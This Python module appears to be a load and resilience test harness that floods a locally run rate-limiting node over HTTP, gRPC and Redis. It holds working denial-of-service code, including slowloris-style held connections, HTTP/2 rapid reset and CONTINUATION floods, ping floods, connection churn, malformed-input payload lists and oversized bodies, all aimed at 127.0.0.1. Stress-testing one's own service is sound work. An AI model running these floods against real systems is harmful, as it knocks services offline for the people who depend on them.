"""The attacks. Each is bytes made beforehand and sent as fast as the node takes them, by processes that do nothing else."""

import multiprocessing
import os
import select
import socket
import struct
import time

import kit
import wire

SOURCE = "127.0.0.9"
fork = multiprocessing.get_context("fork")


class Run:
    """Processes that attack until they are told to stop, and what they have done so far."""

    def __init__(self, attack, port, source, processor):
        self.stop = fork.Value("b", 0, lock=False)
        self.done = [fork.Value("L", 0, lock=False) for _ in attack.workers]
        self.opened = [fork.Value("L", 0, lock=False) for _ in attack.workers]
        self.processes = []
        for number, worker in enumerate(attack.workers):
            one = fork.Process(target=self.work, args=(worker, number, port, source, processor), daemon=True)
            one.start()
            self.processes.append(one)

    def work(self, worker, number, port, source, processor):
        kit.pin(processor)
        self.number = number
        worker(self, port, source)

    def goes_on(self):
        return not self.stop.value

    def did(self, units):
        self.done[self.number].value += units

    def did_open(self):
        self.opened[self.number].value += 1

    def counts(self):
        return sum(one.value for one in self.done), sum(one.value for one in self.opened)

    def end(self):
        self.stop.value = 1
        for one in self.processes:
            one.join(10)
            if one.is_alive():
                one.kill()


def dial(port, source, wait=True):
    """A connection that never waits. With `wait` it is there already."""
    one = socket.socket()
    one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    one.bind((source, 0))
    if wait:
        one.settimeout(2)
        one.connect(("127.0.0.1", port))
        one.setblocking(False)
    else:
        one.setblocking(False)
        one.connect_ex(("127.0.0.1", port))
    return one


class Sender:
    """One connection of a flood."""

    def __init__(self, number):
        self.number, self.socket, self.left, self.units = number, None, memoryview(b""), 0


def flood(connections, greeting, batch, offset=0, reads=True, pause=0.0):
    """Sends batches on so many connections; those that the node ends are opened again, after a pause. `batch(n)` gives the bytes of
    the batch number n of all, and how many units of the attack they are."""
    def work(run, port, source):
        port += offset
        poller = select.epoll()
        senders, by_file, number, later = [Sender(n) for n in range(connections)], {}, 0, []

        def open_one(sender):
            if sender.socket is not None:
                by_file.pop(sender.socket.fileno(), None)
                sender.socket.close()
                sender.socket = None
            try:
                sender.socket = dial(port, source)
            except OSError:
                later.append((time.monotonic() + 0.05, sender))
                return
            run.did_open()
            sender.left, sender.units = memoryview(greeting), 0
            by_file[sender.socket.fileno()] = sender
            poller.register(sender.socket, select.EPOLLOUT | (select.EPOLLIN if reads else 0))

        for sender in senders:
            open_one(sender)
        while run.goes_on():
            if later and later[0][0] <= time.monotonic():
                open_one(later.pop(0)[1])
            for file, events in poller.poll(0.02):
                sender = by_file.get(file)
                if sender is None:
                    continue
                try:
                    if events & select.EPOLLIN and not sender.socket.recv(1 << 18):
                        raise ConnectionResetError
                    if events & (select.EPOLLHUP | select.EPOLLERR):
                        raise ConnectionResetError
                    if events & select.EPOLLOUT:
                        if not sender.left:
                            run.did(sender.units)
                            content, sender.units = batch(number)
                            sender.left = memoryview(content)
                            number += 1
                        sender.left = sender.left[sender.socket.send(sender.left):]
                except BlockingIOError:
                    pass
                except OSError:
                    if pause:
                        by_file.pop(sender.socket.fileno(), None)
                        sender.socket.close()
                        sender.socket = None
                        later.append((time.monotonic() + pause, sender))
                    else:
                        open_one(sender)
    return work


def repeat(content, units):
    return lambda number: (content, units)


def once(content):
    """What begins a connection again and again, until the node ends it."""
    return lambda number: (content, 1)


def distinct(make, units):
    """Batches that differ in a prefix of eight digits: to change it takes no time, to make each request would."""
    mark = b"@@@@@@@@"
    content = b"".join(make(mark + b"%04d" % n) for n in range(units))
    base = os.getpid() % 1000 * 100_000
    return lambda number: (content.replace(mark, b"%08d" % (base + number)), units)


def hold(connections, first, drip=b"", offset=0, fills=False, every=1.0):
    """So many connections that have begun something and do not go on with it, but for a byte now and then. With `fills`, what begins
    them is sent again and again until the node takes no more, and nothing is ever read."""
    def work(run, port, source):
        port += offset
        held = [None] * connections
        begun = [0] * connections

        def open_one(place):
            one = None
            try:
                one = dial(port, source)
                run.did_open()
                if fills:
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                begun[place] = one.send(first)
                run.did(1)
            except BlockingIOError:
                pass
            except OSError:
                if one is not None:
                    one.close()
                    one = None
            held[place] = one

        while run.goes_on():
            start = time.monotonic()
            for place, one in enumerate(held):
                if not run.goes_on():
                    break
                try:
                    if one is None:
                        open_one(place)
                    elif begun[place] < len(first):
                        begun[place] += one.send(first[begun[place]:])
                    elif fills:
                        one.send(first)
                    elif drip:
                        one.send(drip)
                    if one is not None and not fills and not one.recv(65536):
                        raise ConnectionResetError
                except BlockingIOError:
                    pass
                except OSError:
                    if held[place] is not None:
                        held[place].close()
                        held[place] = None
            while run.goes_on() and time.monotonic() < start + every:
                time.sleep(0.02)
    return work


def churn(question, offset=0, at_once=64):
    """Connections that ask once and are reset, so many at a time."""
    linger = struct.pack("ii", 1, 0)

    def work(run, port, source):
        port += offset
        while run.goes_on():
            opened = []
            for _ in range(at_once):
                try:
                    opened.append(dial(port, source))
                    run.did_open()
                    if question:
                        opened[-1].send(question)
                except OSError:
                    continue
            for one in opened:
                try:
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                except OSError:
                    pass
                one.close()
            run.did(len(opened))
    return work


# --- what is sent ----------------------------------------------------------------------------------------------------


def resets(pairs, first=1):
    """Requests that are given up as fast as they are made."""
    head = wire.grpc_headers(wire.ENVOY)
    cancel = struct.pack(">I", 8)
    return b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, head) + wire.frame(wire.RST_STREAM, 0, stream, cancel)
                    for stream in range(first, first + 2 * pairs, 2))


def paced_resets(connections, pairs=24):
    """The same, so few at a time that no count of those that wait is reached: the next ones when the node has answered a ping."""
    def work(run, port, source):
        port += 1
        poller, state = select.epoll(), {}

        def next_ones(file):
            one, stream = state[file]
            if stream > 1_000_000:
                raise ConnectionResetError
            one.send(resets(pairs, stream) + wire.frame(wire.PING, 0, 0, b"12345678"))
            state[file][1] = stream + 2 * pairs
            run.did(pairs)

        def open_one():
            one = dial(port, source)
            run.did_open()
            poller.register(one, select.EPOLLIN)
            state[one.fileno()] = [one, 1]
            one.send(wire.GREETING)
            next_ones(one.fileno())

        while run.goes_on():
            try:
                while len(state) < connections:
                    open_one()
            except OSError:
                time.sleep(0.01)
            for file, _ in poller.poll(0.02):
                try:
                    got = state[file][0].recv(1 << 16)
                    if not got:
                        raise ConnectionResetError
                    if b"12345678" in got:
                        next_ones(file)
                except BlockingIOError:
                    pass
                except OSError:
                    state.pop(file)[0].close()
    return work


def continuations():
    """A head that never ends."""
    head = wire.grpc_headers(wire.ENVOY)
    return wire.GREETING + wire.frame(wire.HEADERS, 0, 1, head) + wire.frame(
        wire.CONTINUATION, 0, 1, wire.hpack([(b"x", b"y" * 100)]) * 9) * 200


def answered_calls(connections, path, contents, extra=(), at_once=16):
    """Calls on connections that read their answers, so many on their way at a time: the next ones when a ping behind them is answered,
    so that no window is overrun."""
    head, ping = wire.grpc_headers(path, extra), wire.frame(wire.PING, 0, 0, b"12345678")

    def work(run, port, source):
        port += 1
        poller, state = select.epoll(), {}

        def next_ones(one):
            if one.number > 1_000_000:
                raise ConnectionResetError
            streams = range(one.number, one.number + 2 * at_once, 2)
            one.left = b"".join(
                wire.frame(wire.HEADERS, wire.END_HEADERS, stream, head)
                + wire.frame(wire.DATA, wire.END_STREAM, stream, contents[stream // 2 % len(contents)]) for stream in streams) + ping
            one.number += 2 * at_once
            run.did(at_once)
            send(one)

        def send(one):
            one.left = one.left[one.socket.send(one.left):]
            poller.modify(one.socket, select.EPOLLIN | (select.EPOLLOUT if one.left else 0))

        while run.goes_on():
            try:
                while len(state) < connections:
                    one = Sender(1)
                    one.socket = dial(port, source)
                    run.did_open()
                    poller.register(one.socket, select.EPOLLIN)
                    state[one.socket.fileno()] = one
                    one.socket.send(wire.GREETING)
                    next_ones(one)
            except OSError:
                time.sleep(0.01)
            for file, events in poller.poll(0.02):
                one = state[file]
                try:
                    if events & select.EPOLLOUT and one.left:
                        send(one)
                    got = one.socket.recv(1 << 18)
                    if not got:
                        raise ConnectionResetError
                    if b"12345678" in got:
                        next_ones(one)
                except BlockingIOError:
                    pass
                except OSError:
                    state.pop(file).socket.close()
    return work


HTTP_NONSENSE = [
    b"GET /v1/check?user=\0 HTTP/1.1\r\nhost: a\r\n\r\n",
    b"GET /v1/check HTTP/9.9\r\n\r\n",
    b"\xff" * 4096,
    b"POST /v1/check HTTP/1.1\r\nhost: a\r\ncontent-length: 99999999999999999999\r\n\r\n",
    b"GET /v1/check HTTP/1.1\r\nhost: a\r\n" + b"a: b\r\n" * 200 + b"\r\n",
    b"POST /v1/check HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\nzzz\r\n",
    b"GET /" + b"x" * 20_000 + b" HTTP/1.1\r\nhost: a\r\n\r\n",
]
# Answered with 400, on a connection that goes on.
HTTP_WRONG = b"".join([
    wire.get(b"/v1/check?user=a&cost=-1"), wire.get(b"/v1/check?" + b"&".join(b"a%d=b" % n for n in range(64))),
    wire.post(b"/v1/check", b'{"attributes": {"user": ' + b"[" * 2000), wire.post(b"/v1/check", b"\xff" * 1000),
    wire.post(b"/v1/check", b"{}}"), wire.get(b"/v1/check?user=%ff%fe&user=b"),
])
RESP_WRONG = b"".join([
    wire.command(b"CL.THROTTLE", b"k"), wire.command(b"CL.THROTTLE", b"k", b"x", b"-1", b"0"), wire.command(b"NOSUCH" * 50, b"k"),
    wire.command(b"EVAL", b"return 1", b"0"), wire.command(*[b"a"] * 30),
])
RESP_NONSENSE = [b"*-5\r\n", b"*1\r\n$999999999999\r\n", b"*2000000000\r\n", b"$5\r\nhello\r\n" + b"\0" * 4096, b"*1\r\n:1\r\n"]
H2_NONSENSE = [
    wire.GREETING + wire.frame(wire.DATA, 0, 0, b"x"), wire.GREETING + wire.frame(wire.HEADERS, 4, 2, b"\xff" * 50),
    wire.GREETING + wire.frame(wire.SETTINGS, 0, 0, b"xxx"), wire.GREETING + b"\xff\xff\xff" + b"\0" * 200,
    wire.GREETING + wire.frame(wire.HEADERS, 5, 1, b"\x80" * 100), wire.GREETING + wire.frame(wire.WINDOW_UPDATE, 0, 0, bytes(4)),
    b"\x16\x03\x01" + b"\0" * 500, b"POST / HTTP/1.1\r\n\r\n",
]
PROTOBUF_NONSENSE = [wire.message(content) for content in (
    b"\xff" * 200, b"\x0a\xff\xff\xff\xff\x0f", b"\x12" * 500, b"\x0b" * 300, bytes(1000))] + [b"\1" + wire.message(b"abc")[1:]]
BATCH = b'{"checks": [' + b",".join(b'{"attributes": {"user": "x%d"}}' % n for n in range(1000)) + b"]}"
GUBERNATOR_BATCH = wire.message(b"".join(
    wire.field(1, wire.field(1, b"name") + wire.field(2, b"k%d" % n) + wire.field(3, 1) + wire.field(4, 100) + wire.field(5, 1000))
    for n in range(1000)))


def throttle(key):
    return wire.command(b"CL.THROTTLE", key, b"0", b"1", b"2678400")


def bad_token(key):
    return b"tg_" + key + b"0" * 28


class Attack:
    def __init__(self, name, front, unit, *workers, guarded=False):
        self.name, self.front, self.unit, self.workers, self.guarded = name, front, unit, workers, guarded


LARGE = wire.post(b"/v1/check/batch", b" " * (1 << 20))
ATTACKS = [
    Attack("slow heads", "HTTP", "connections",
           hold(3000, b"GET /v1/check?user=a HTTP/1.1\r\nhost: a\r\nx: ", b"y")),
    Attack("slow bodies", "HTTP", "connections",
           hold(1500, b"POST /v1/check/batch HTTP/1.1\r\nhost: a\r\ncontent-length: 1048576\r\n\r\n" + b" " * 200_000, b" ")),
    Attack("slow bodies", "gRPC", "connections",
           hold(500, wire.GREETING + b"".join(
               wire.frame(wire.HEADERS, wire.END_HEADERS, stream, wire.grpc_headers(wire.GUBERNATOR))
               + wire.frame(wire.DATA, 0, stream, b"\0\0\0\xff\0" + b" " * 1000) for stream in range(1, 201, 2)), offset=1)),
    Attack("slow readers", "HTTP", "connections",
           hold(500, wire.get(b"/openapi.json") * 200, fills=True)),
    Attack("slow readers", "gRPC", "connections",
           hold(300, wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
               wire.frame(wire.HEADERS, wire.END_HEADERS, stream, wire.grpc_headers(wire.GUBERNATOR))
               + wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b"\x0a\0" * 1000)) for stream in range(1, 63, 2)), offset=1)),
    Attack("slow readers", "Redis", "connections",
           hold(500, wire.command(b"ECHO", b"x" * 60_000) * 4, offset=2, fills=True)),
    Attack("connection churn", "HTTP", "connections", churn(wire.get(b"/v1/check?user=a")), churn(b"")),
    Attack("connection churn", "gRPC", "connections", churn(wire.GREETING, 1), churn(b"", 1)),
    Attack("connection churn", "Redis", "connections", churn(b"PING\r\n", 2), churn(b"", 2)),
    Attack("HTTP/2 rapid reset", "gRPC", "resets", flood(8, wire.GREETING, repeat(resets(1000), 1000), 1), paced_resets(16)),
    Attack("HTTP/2 CONTINUATION", "gRPC", "frames", flood(16, continuations(), repeat(
        wire.frame(wire.CONTINUATION, 0, 1, b"") * 5000, 5000), 1)),
    Attack("HTTP/2 pings", "gRPC", "pings", flood(16, wire.GREETING, repeat(wire.frame(wire.PING, 0, 0, b"12345678") * 4000, 4000), 1)),
    Attack("key flood", "HTTP", "keys", flood(32, b"", distinct(lambda key: wire.get(b"/v1/check?account=" + key), 1000))),
    Attack("key flood", "gRPC", "keys", answered_calls(32, wire.ENVOY, [wire.envoy_question(b"account", os.urandom(8)) for _ in range(4096)])),
    Attack("key flood", "Redis", "keys", flood(32, b"", distinct(throttle, 1000), 2)),
    Attack("bad tokens", "HTTP", "tokens", flood(32, b"", distinct(
        lambda key: wire.get(b"/v1/check?user=a", b"authorization: Bearer " + bad_token(key)), 1000)), guarded=True),
    Attack("bad tokens", "gRPC", "tokens", answered_calls(32, wire.ENVOY, [wire.envoy_question(b"user", b"a")],
                                                       [(b"authorization", b"Bearer " + bad_token(b"x" * 12))]), guarded=True),
    Attack("bad tokens", "Redis", "tokens", flood(32, b"", distinct(lambda key: wire.command(b"AUTH", bad_token(key)), 1000), 2),
           guarded=True),
    Attack("malformed", "HTTP", "requests", flood(16, b"", repeat(HTTP_WRONG * 20, 120)),
           *[flood(4, content, once(content)) for content in HTTP_NONSENSE[::3]]),
    Attack("malformed", "gRPC", "calls", answered_calls(16, wire.ENVOY, PROTOBUF_NONSENSE),
           *[flood(4, content, once(content), 1) for content in H2_NONSENSE[::3]]),
    Attack("malformed", "Redis", "commands", flood(16, b"", repeat(RESP_WRONG * 100, 500), 2),
           *[flood(4, content, once(content), 2) for content in RESP_NONSENSE[::2]]),
    Attack("giant bodies", "HTTP", "bodies", flood(8, b"", repeat(wire.post(b"/v1/check/batch", BATCH), 1)),
           flood(8, b"", repeat(LARGE, 1)), flood(8, b"", repeat(wire.post(b"/v1/check/batch", b" " * (8 << 20)), 1))),
    Attack("giant bodies", "gRPC", "bodies", answered_calls(8, wire.ENVOY, [wire.message(b"\x0a\x02ab" * 12_000)], at_once=4),
           answered_calls(8, wire.GUBERNATOR, [GUBERNATOR_BATCH], at_once=4)),
]
